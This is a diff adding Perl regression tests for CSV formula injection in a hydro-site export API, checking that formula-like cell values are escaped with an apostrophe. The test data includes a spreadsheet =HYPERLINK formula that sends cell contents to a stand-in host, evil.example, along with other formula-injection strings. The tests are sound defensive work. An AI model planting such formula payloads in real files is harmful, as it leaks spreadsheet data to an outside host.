@@ -13,7 +13,7 @@ use File::Temp ();
 use Text::CSV ();
 use EaTest qw(db reset_db seed_fixture get_json);
 
-plan tests => 36;
+plan tests => 41;
 
 reset_db();
 my $f = seed_fixture();
@@ -68,6 +68,27 @@ sub csv_rows {
     is $rows->[1][1], $name, 'quoting: the name survives a real CSV parser';
     is $rows->[1][3], '', 'quoting: no region → empty field';
     like $res->content, qr/"Dam, ""Big""\r\nNorth/, 'quoting: doubled quotes inside a quoted field';
+}
+
+# CSV injection (issue 11): a cell a spreadsheet would run as a formula
+# starts with an apostrophe; negative numbers stay numbers
+{
+    my @names = ('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', "\tTAB", "\rCR");
+    for my $n (@names) {
+        db()->do(q{INSERT INTO core_hydrosite (created_at, updated_at, name, country_id, status, notes, properties, latitude)
+                   VALUES (now(), now(), ?, ?, 'construction', '', '{}', -12.5)}, undef, $n, $f->{country});
+    }
+    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/?status=construction&ordering=name');
+    my $rows = csv_rows($res->content);
+    shift @$rows;
+    my %got = map { $_->[1] => 1 } @$rows;
+    is_deeply [sort keys %got], [sort map { "'$_" } @names], 'CSV injection: every formula-like name gets a leading apostrophe';
+    is_deeply [map { $_->[4] } @$rows], [('-12.500000') x @names], 'CSV injection: negative numbers are left as numbers';
+    like $res->content, qr/\r\n\d+,"'=HYPERLINK\(""http/, 'CSV injection: the guarded cell is quoted';
+    unlike $res->content, qr/(^|,)(?:[=+\@]|-[^0-9])/m, 'CSV injection: no unquoted cell starts with = + @ or - and a non-digit';
+    my ($r2) = Apache::TestRequest::GET('/api/hydro-sites/?status=construction&search=HYPERLINK');
+    like $r2->content, qr/"name":"=HYPERLINK/, 'CSV injection: the JSON API keeps the name as stored';
+    db()->do(q{DELETE FROM core_hydrosite WHERE status = 'construction'});
 }
 
 # filters, search, ordering, errors, negotiation
